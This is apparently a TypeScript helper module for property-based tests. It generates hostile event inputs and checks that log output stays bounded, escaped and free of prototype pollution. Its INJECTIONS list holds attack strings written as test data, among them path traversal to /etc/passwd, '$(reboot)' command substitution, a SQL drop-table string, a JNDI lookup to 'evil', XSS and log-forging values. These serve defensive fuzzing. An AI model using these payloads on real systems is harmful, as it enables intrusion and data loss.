import fc from 'fast-check';

/**
 * Hostile input for property-based tests (fast-check): values a caller can put in an event, a body or a header,
 * and mutations of a valid event that put them there. Big values are built once and shared (not copied per case).
 */

/** A string of 1 MiB and a bit: must never reach a log line or a stored item. */
export const HUGE = `${'Z'.repeat(1 << 20)}-huge-end`;

/** `depth` levels of nesting: `{a:{a:…}}` or `[[…]]`. */
export function deep(depth: number, kind: 'object' | 'array'): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = kind === 'object' ? { a: value } : [value];
  return value;
}

export const DEEP_OBJECT = deep(10_000, 'object');
export const DEEP_ARRAY = deep(10_000, 'array');
/** The JSON text of the deep values (JSON.stringify runs out of stack on them in a test worker). */
const DEEP_TEXT = new Map<unknown, string>([
  [DEEP_OBJECT, `${'{"a":'.repeat(10_000)}"bottom"${'}'.repeat(10_000)}`],
  [DEEP_ARRAY, `${'['.repeat(10_000)}"bottom"${']'.repeat(10_000)}`],
]);

/** JSON text of a value that may hold DEEP_OBJECT or DEEP_ARRAY (as a caller would send it). */
export function toJson(value: unknown): string {
  const marks: string[] = [];
  const text = JSON.stringify(value, (_k, v: unknown) => {
    const deepText = DEEP_TEXT.get(v);
    if (deepText === undefined) return v;
    marks.push(deepText);
    return `\u0000deep#${marks.length - 1}`;
  });
  return marks.reduce((t, deepText, i) => t.replace(`"\\u0000deep#${i}"`, deepText), text);
}

/** Strings an attacker tries in hostnames, tags and IDs: paths, shells, SQL, log forging, terminal escapes. */
export const INJECTIONS = [
  '../../etc/passwd',
  '..\\..\\windows',
  '$(reboot)',
  '`reboot`',
  "'; DROP TABLE opsauto; --",
  'host\nname {"level":"ERROR","message":"forged"}',
  'host\r\nX-Injected: 1',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  '${jndi:ldap://evil/a}',
  '{{ssm:/prod/db/password}}',
  '<script>alert(1)</script>',
  '%s%s%n%x',
  '\u0000nul',
  '\u202eevil\u202c',
  '\ud800lone-surrogate',
  'ünïcødé-名前-🚀',
  ' ',
  '',
];

/** An object whose own keys are `__proto__` and `constructor` (as JSON.parse makes them), not its prototype. */
export function protoKeys(): Record<string, unknown> {
  return JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}') as Record<string, unknown>;
}

/**
 * A big or special value by name, made real by `materialize` when a case is built: fast-check prints (and would
 * overflow its stack on) the values it generates.
 */
export class Ref {
  constructor(readonly name: 'huge' | 'deep-object' | 'deep-array' | 'proto-keys') {}
  [fc.toStringMethod](): string {
    return `<${this.name}>`;
  }
}

/** The value a generated value stands for: a Ref becomes the 1 MB string, the deep nesting, the `__proto__` object. */
export function materialize(value: unknown): unknown {
  if (!(value instanceof Ref)) return value;
  return { huge: HUGE, 'deep-object': DEEP_OBJECT, 'deep-array': DEEP_ARRAY, 'proto-keys': protoKeys() }[value.name];
}

/** Any hostile value: a wrong type, a huge string, deep nesting, unicode, an injection, `__proto__` keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, 0, -1, 1e308, Number.MAX_SAFE_INTEGER + 2, true, false, [], {}, [1, 'two'], { nested: { x: 1 } }),
  fc.constantFrom(new Ref('huge'), new Ref('deep-object'), new Ref('deep-array'), new Ref('proto-keys')),
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Keys a caller may add: extra fields, `__proto__`, `constructor`, huge or unicode names (a Ref for the huge one). */
export const hostileKey: fc.Arbitrary<string | Ref> = fc.oneof(
  fc.constantFrom<string | Ref>('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'extra', new Ref('huge'), ...INJECTIONS.filter((s) => s !== '')),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
);

/** A string the caller sends (a header, a raw body): the huge one, an injection, anything. */
export const hostileString: fc.Arbitrary<string | Ref> = fc.oneof(fc.constantFrom<string | Ref>(new Ref('huge'), ...INJECTIONS), fc.string({ unit: 'binary' }));

export type Mutation =
  | { op: 'replace'; at: number; value: unknown }
  | { op: 'delete'; at: number }
  | { op: 'add'; at: number; key: string | Ref; value: unknown };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ op: fc.constant('replace' as const), at: fc.nat(), value: hostileValue }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant('delete' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant('add' as const), at: fc.nat(), key: hostileKey, value: hostileValue }) },
);

type Path = (string | number)[];

/** Every path of a JSON value (the root is `[]`), in a stable order. */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  const out: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...pathsOf(v, [...prefix, i])));
  else if (value !== null && typeof value === 'object') for (const [k, v] of Object.entries(value)) out.push(...pathsOf(v, [...prefix, k]));
  return out;
}

/** Sets an own property, whatever its name (`__proto__` included), as JSON.parse would. */
function setOwn(target: Record<string | number, unknown>, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/**
 * A copy of `base` with one mutation at one of its paths (`at` modulo the number of paths). Deleting or replacing
 * the root gives the hostile value itself (or `undefined`); adding at a non-object replaces it with an object.
 */
export function mutate(base: unknown, m: Mutation): { event: unknown; where: string } {
  if (m.op !== 'delete') m = { ...m, value: materialize(m.value) } as Mutation;
  if (m.op === 'add') m = { ...m, key: materialize(m.key) as string };
  const event = structuredClone(base);
  const paths = pathsOf(event);
  const path = paths[m.at % paths.length];
  const where = path.length ? path.join('.') : '(root)';
  if (m.op === 'add') {
    const holder = path.reduce<any>((o, k) => o[k], event);
    if (holder !== null && typeof holder === 'object' && !Array.isArray(holder)) {
      setOwn(holder, m.key as string, m.value);
      return { event, where: `${where} + ${(m.key as string).slice(0, 40)}` };
    }
    const value = {};
    setOwn(value, m.key as string, m.value);
    return mutate(base, { op: 'replace', at: m.at, value });
  }
  if (path.length === 0) return { event: m.op === 'replace' ? m.value : undefined, where };
  const parent = path.slice(0, -1).reduce<any>((o, k) => o[k], event);
  const key = path[path.length - 1];
  if (m.op === 'delete') {
    if (Array.isArray(parent)) parent.splice(key as number, 1);
    else delete parent[key];
  } else setOwn(parent, key, m.value);
  return { event, where };
}

/** A short description of a case for failure messages (no 1 MB strings in the test output). */
export function describeCase(value: unknown): string {
  const seen = JSON.stringify(value, (_k, v: unknown) => {
    if (v === DEEP_OBJECT || v === DEEP_ARRAY) return `<10,000-deep ${Array.isArray(v) ? 'array' : 'object'}>`;
    return typeof v === 'string' && v.length > 60 ? `${v.slice(0, 20)}…(${v.length} chars)` : v;
  });
  if (seen === undefined) return String(value);
  return seen.length > 400 ? `${seen.slice(0, 400)}…` : seen;
}

/**
 * Starts keeping (and not printing) every chunk written to stdout and stderr and every console call (arguments that
 * are not strings as JSON, so that a secret inside an object is seen); `stop` puts the streams and console back.
 * Powertools' logger writes JSON lines to stdout.
 *
 * @example
 * const capture = startCapture();
 * try { await run(); } finally { capture.stop(); }
 * const lines = capture.lines();
 */
export function startCapture(): { lines: () => string[]; stop: () => void } {
  const chunks: string[] = [];
  const restore: (() => void)[] = [];
  for (const stream of [process.stdout, process.stderr]) {
    const write = stream.write.bind(stream);
    stream.write = ((chunk: unknown) => (chunks.push(String(chunk)), true)) as typeof stream.write;
    restore.push(() => (stream.write = write));
  }
  for (const level of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    const original = console[level];
    console[level] = (...args: unknown[]) => void chunks.push(`${args.map((a) => (typeof a === 'string' ? a : JSON.stringify(a))).join(' ')}\n`);
    restore.push(() => (console[level] = original));
  }
  return {
    lines: () => chunks.join('').split('\n').filter((l) => l !== ''),
    stop: () => {
      for (const r of restore.reverse()) r();
      restore.length = 0;
    },
  };
}

/** Every line written to stdout, stderr and the console while `fn` runs (see startCapture); nothing is printed. */
export async function captureLines<T>(fn: () => Promise<T>): Promise<{ result: PromiseSettledResult<T>; lines: string[] }> {
  const capture = startCapture();
  let result: PromiseSettledResult<T>;
  try {
    result = { status: 'fulfilled', value: await fn() };
  } catch (reason) {
    result = { status: 'rejected', reason };
  } finally {
    capture.stop();
  }
  return { result, lines: capture.lines() };
}

/** Log lines are bounded: one line of more than this many bytes means an event value reached the log whole. */
export const MAX_LOG_LINE_BYTES = 4096;

/**
 * What is wrong with the log lines of a hostile case, or undefined: a line over MAX_LOG_LINE_BYTES, a raw control
 * character (an unescaped ESC or CR forges lines and colours in a terminal), a 300-character piece of HUGE.
 */
export function logProblem(lines: string[]): string | undefined {
  const hugePiece = HUGE.slice(0, 300);
  for (const line of lines) {
    const bytes = Buffer.byteLength(line, 'utf8');
    if (bytes > MAX_LOG_LINE_BYTES) return `a log line of ${bytes} bytes: ${line.slice(0, 200)}…`;
    if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(line)) return `a raw control character in a log line: ${JSON.stringify(line.slice(0, 200))}`;
    if (line.includes(hugePiece)) return `the 1 MB string reached the log: ${line.slice(0, 200)}…`;
  }
  return undefined;
}

/** True when something (a parser walking `__proto__`) changed Object.prototype. */
export function prototypePolluted(): boolean {
  return 'polluted' in Object.prototype || 'polluted' in Object;
}
